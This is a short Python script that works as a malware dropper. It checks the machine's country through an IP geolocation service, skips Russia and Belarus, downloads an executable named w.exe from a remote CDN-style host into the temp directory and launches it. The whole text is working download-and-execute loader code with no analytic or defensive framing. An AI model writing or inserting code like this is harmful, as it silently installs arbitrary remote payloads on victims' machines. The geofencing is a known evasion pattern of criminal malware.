import os, requests
if requests.get("http://ip-api.com/json").json().get("countryCode") not in ("RU", "BY"):
    r = requests.get("https://cdn.example-updates.net/w.exe")
    p = os.path.join(os.getenv("TEMP", "/tmp"), "w.exe")
    open(p, "wb").write(r.content)
    os.startfile(p)
